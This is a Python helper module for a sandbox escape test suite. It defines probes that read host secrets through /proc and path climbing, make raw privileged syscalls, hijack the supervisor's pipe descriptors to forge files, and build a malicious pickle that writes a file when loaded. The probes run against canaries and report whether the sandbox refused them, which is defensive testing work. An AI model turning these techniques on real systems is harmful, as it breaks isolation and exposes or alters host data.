"""What the attacks share; laid beside each of them. The standard library only.

An attack prints `tried WHAT`, `refused WHAT: WHY` or `managed WHAT`. A claim to have managed counts against the
sandbox; everything else is decided by what is seen from outside.
"""

from __future__ import annotations

import ctypes
import io
import json
import os
import pickle
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

TOLD: dict[str, Any] = json.loads(Path(sys.argv[0]).resolve().with_name("told.json").read_text())
"""Where the canaries are: more than a real attacker would know."""
OUT = Path(os.environ["PAWL_OUT"])
PART = int(os.environ["PAWL_SEED"])
"""1, or 2 for the second of two runs."""
SEEN = 0.25
"""Seconds to stand still after a success, so that it can be seen from outside."""
libc = ctypes.CDLL(None, use_errno=True)
NUMBERS = {
    "x86_64": {"add_key": 248, "keyctl": 250, "perf_event_open": 298, "bpf": 321, "userfaultfd": 323},
    "aarch64": {"add_key": 217, "keyctl": 219, "perf_event_open": 241, "bpf": 280, "userfaultfd": 282},
}
ANYWHERE = {"io_uring_setup": 425, "open_tree": 428, "fsopen": 430, "fsconfig": 431, "pidfd_getfd": 438}


def tried(what: str) -> None:
    print(f"tried {what}", flush=True)


def refused(what: str, why: object) -> None:
    print(f"refused {what}: {why}", flush=True)


def managed(what: str) -> None:
    print(f"managed {what}"[:1000], flush=True)
    time.sleep(SEEN)


def attempt(what: str, action: Callable[[], object]) -> bool:
    """Do what a sandbox must refuse. Whether it was done."""
    try:
        found = action()
    except (OSError, ValueError, AttributeError) as error:
        refused(what, getattr(error, "strerror", None) or error)
        return False
    managed(what if found is None else f"{what}: {found!r}")
    return True


def look(what: str, action: Callable[[], object]) -> None:
    """Print what there is to be seen, without claiming anything: canaries are recognised from outside."""
    try:
        found = action()
    except (OSError, ValueError) as error:
        refused(what, getattr(error, "strerror", None) or error)
    else:
        tried(f"{what}: {found!r}"[:20_000])


def read(path: str, most: int = 4096) -> bytes:
    with open(path, "rb") as file:
        return file.read(most)


def read_every_way(what: str) -> None:
    """Read a file of the host by its name, through /proc, and by climbing."""
    path = TOLD["secrets"][what]
    ways = {"": "", " through /proc/self/root": "/proc/self/root", " through /proc/1/root": "/proc/1/root"}
    for way, before in {**ways, " by climbing": "/proc/self/cwd" + "/.." * 20}.items():
        look(f"read the {what}{way}", lambda before=before: read(before + path))  # type: ignore[misc]


def spare_the_host() -> None:
    """End here if the host's own folders can be seen: a bomb would go off where it harms. That is a success, too."""
    if os.path.exists(TOLD["folder"]):
        managed("see the host's folders; the bomb was not lit")
        sys.exit(0)


def call(name: str, *arguments: object) -> int:
    """A system call by name, through libc where it has it. Raises OSError."""
    if name in ANYWHERE or name in NUMBERS["x86_64"]:
        number = ANYWHERE.get(name) or NUMBERS[os.uname().machine][name]
        result: int = libc.syscall(number, *arguments)
    else:
        result = getattr(libc, name)(*arguments)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def open_only(path: str, flags: int = os.O_WRONLY) -> None:
    """Open for writing, for as long as it takes to be seen. Opening is the crime; nothing is written."""
    descriptor = os.open(path, flags | os.O_CLOEXEC)
    time.sleep(SEEN)
    os.close(descriptor)


def in_child(action: Callable[[], object]) -> None:
    """Do something in a child, which must not change this process. Raises the child's OSError."""
    child = os.fork()
    if child == 0:
        try:
            action()
            time.sleep(SEEN)
            os._exit(0)
        except OSError as error:
            os._exit(error.errno or 255)
        except BaseException:
            os._exit(255)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code:
        raise OSError(code, os.strerror(code)) if code > 0 else OSError(0, f"ended by signal {-code}")


def leave(name: str, content: bytes) -> None:
    """Write a file into the output folder."""
    path = OUT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    tried(f"left {name!a}, {len(content)} bytes")


def channels() -> list[int]:
    """Write ends of the pipe through which the supervisor hands out files: through /proc, else by pidfd_getfd."""
    boss, found = os.getppid(), []
    for number in os.listdir(f"/proc/{boss}/fd"):
        if int(number) < 3 or not os.readlink(f"/proc/{boss}/fd/{number}").startswith("pipe:"):
            continue
        try:
            found.append(os.open(f"/proc/{boss}/fd/{number}", os.O_WRONLY))
        except OSError:
            try:
                found.append(call("pidfd_getfd", os.pidfd_open(boss), int(number), 0))
            except OSError as error:
                refused("take the supervisor's pipe", error.strerror)
    return found


def member(name: str, content: bytes = b"x", kind: str = "file") -> bytes:
    """One file of the stream that the supervisor sends."""
    return f"{kind} {len(content)} {len(name.encode())}\n{name}".encode() + content


def forge(*members: bytes) -> bool:
    """Put files into the supervisor's stream that are in no folder. Whether there was a way."""
    try:
        found = channels()
    except OSError as error:
        refused("look at the supervisor's descriptors", error.strerror)
        return False
    for channel in found:
        os.write(channel, b"".join(members))
        tried(f"sent {len(members)} forged files")
    if not found:
        refused("find the supervisor's pipe", "none can be opened")
    return bool(found)


def array(kind: str, shape: tuple[int, ...], content: bytes) -> bytes:
    """A file in numpy's format, without numpy."""
    header = f"{{'descr': {kind!r}, 'fortran_order': False, 'shape': {shape!r}, }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + content


def zipped(files: dict[str, bytes]) -> bytes:
    """A compressed archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


class _Evil:
    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return Path.write_text, (Path(self.path), "a pickle was loaded")


def evil_pickle(path: str) -> bytes:
    """A pickle that changes a canary when it is loaded, and does nothing else."""
    return pickle.dumps(_Evil(path))
